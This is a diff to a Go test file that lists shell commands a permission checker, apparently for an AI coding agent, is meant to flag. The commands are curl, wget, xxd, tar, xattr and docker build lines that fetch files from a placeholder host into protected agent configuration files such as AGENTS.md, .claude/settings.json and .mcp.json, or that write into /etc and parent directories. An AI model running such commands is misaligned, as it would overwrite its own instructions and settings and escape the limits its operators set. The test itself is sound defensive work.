@@ -129,6 +129,7 @@ func TestWritersOfProtectedFiles(t *testing.T) {
 		"curl --output-dir .claude -o settings.json http://h.example/a", "curl --output-dir ../x -O http://h.example/a", "curl -O 'http://h.example/{AGENTS,a}.md'",
 		"wget http://h.example/AGENTS.md", "wget h.example/AGENTS.md", "wget -P .claude http://h.example/settings.json", "wget -r http://h.example/",
 		"wget --content-disposition http://h.example/a", "wget http://h.example/%41GENTS.md", "wget -i a.txt", "wget -O .mcp.json http://h.example/a",
+		"xattr -w a b AGENTS.md", "docker build --cache-to type=local,dest=/etc/x clean", "docker build --build-context a=.. clean",
 		"xxd -r a.txt .mcp.json", "xxd -r -p a.txt AGENTS.md", "tar xfC a.tar /etc", "tar cfC ../a.tar . clean",
 	})
 	p.holdApproved(t, true, []string{
